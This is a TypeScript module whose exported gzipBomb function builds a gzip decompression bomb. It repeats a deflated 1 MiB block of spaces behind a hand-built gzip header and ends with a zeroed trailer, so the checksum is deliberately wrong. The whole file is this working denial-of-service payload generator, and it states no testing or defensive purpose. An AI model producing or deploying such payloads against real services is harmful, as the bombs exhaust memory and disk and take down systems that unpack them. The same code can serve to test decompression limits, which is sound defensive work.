import { constants, createDeflateRaw } from "node:zlib";

/** Returns a gzip stream of spaces, a thousandth of its unpacked size. */
export async function gzipBomb(unpackedBytes: number): Promise<Buffer> {
  const blockBytes = 1024 * 1024;
  const block = await deflatedBlock(blockBytes);
  // RFC 1952 §2.3: the ten bytes of the head. Blocks that end on a byte boundary may be repeated; only the checksum at the end is wrong.
  const gzipHead = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
  const lastBlockAndTrailer = Buffer.from([3, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([gzipHead, ...Array.from({ length: Math.ceil(unpackedBytes / blockBytes) }, () => block), lastBlockAndTrailer]);
}

async function deflatedBlock(sizeBytes: number): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: 9 });
  const pieces: Buffer[] = [];
  deflate.on("data", (piece: Buffer) => pieces.push(piece));
  deflate.write(Buffer.alloc(sizeBytes, 0x20));
  // A full flush resets the compression state, so that the block is independent.
  await new Promise<void>((resolve) => deflate.flush(constants.Z_FULL_FLUSH, resolve));
  deflate.destroy();
  return Buffer.concat(pieces);
}
